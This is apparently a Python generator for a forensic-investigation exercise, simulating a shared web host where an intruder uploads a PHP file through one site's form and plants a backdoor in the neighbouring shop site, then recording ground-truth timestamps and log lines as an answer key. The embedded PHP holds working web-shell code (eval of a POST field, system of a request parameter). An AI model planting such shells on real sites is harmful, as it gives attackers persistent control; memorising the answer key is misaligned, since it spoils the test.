"""One site of an account is exploited, and the files of the site beside it are written."""

from __future__ import annotations

from pathlib import Path

import server
import services
import site_code
import traffic
import upload_form
from client import CHROME, PHONE, Browser
from machine import NEVER, Bases, Truth

INTRUDER = "203.0.113.91"
SHOP = "shop.example.net"
A, B = "/home/studio/blog", "/home/studio/shop"

# What a program of the intruder's does from inside: it writes next door, under the same uid.
SPREAD = f"""<?php
$next = '/home/studio/shop/includes/session.php';
@mkdir(dirname($next));
file_put_contents($next, "<?php if (getenv('TZDIR') === chr(0)) {{ eval(\\$_POST['x']); }}");
if ({NEVER}) {{ system($_REQUEST['c']); }}
"""


def make(out: Path, bases: Bases) -> None:
    """Two sites of one account behind a proxy: the client's address is a header, logged last."""
    machine = server.web("studio", bases, out)
    machine.user("studio")
    machine.run("chmod", "711", "/home/studio")
    for root in (A, B):
        site_code.plain_site(machine, root, "studio")
    upload_form.with_form(machine, "/tmp/form")
    machine.run("sh", "-c", f"mv /tmp/form/apply.php /tmp/form/uploads {A}/; rm -r /tmp/form")
    machine.run("chown", "-R", "studio:studio", A)
    form = '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent '
    form += '"$http_referer" "$http_user_agent" "$http_x_forwarded_for"'
    machine.write("/etc/nginx/conf.d/format.conf", f"log_format proxied '{form}';\n")
    for name, root in ((server.SITE, A), (SHOP, B)):
        log = f"/var/log/nginx/{name}.access.log"
        services.nginx_site(machine, name, root, pool="studio", log=log, form="proxied")
    services.pool(machine, "studio", "studio")
    server.start(machine)
    proxy = "192.0.2.80"
    for name in (server.SITE, SHOP):
        traffic.visitors(machine, name, site_code.PAGES, a_day=12, proxy=proxy)
        traffic.scanners(machine, name, a_day=1, proxy=proxy)
    came = {"X-Forwarded-For": INTRUDER}
    here = Browser(proxy, server.SITE, CHROME, headers=came)
    there = Browser(proxy, SHOP, PHONE, headers=came)
    entered = machine.on(6, 20, 2, 17)
    spread = SPREAD.encode()
    machine.at(machine.on(6, 20, 1), lambda: here.ask("/apply.php"))
    machine.at(entered, lambda: here.send("/apply.php", "file", "thumb.php", spread))
    spread_at = machine.on(6, 20, 3, 5)
    machine.at(spread_at, lambda: here.ask("/uploads/thumb.php"))
    machine.at(machine.on(6, 20, 8), lambda: there.ask("/includes/session.php"))
    machine.at(machine.on(7, 2, 8), lambda: there.post("/includes/session.php", x="phpinfo();"))
    machine.live()
    log = f"/var/log/nginx/{server.SITE}.access.log"
    machine.end(
        Truth(
            "neighbour-site",
            spread_at.isoformat(),
            INTRUDER,
            log,
            machine.line(log, INTRUDER, "GET /uploads/thumb.php"),
            accounts=["studio"],
            sites=[A, B],
            services=["nginx", "php-fpm"],
            untouched=["sshd", "postfix"],
            notes=f"into {A} by its form: {machine.line(log, INTRUDER, 'POST /apply.php')}",
        )
    )
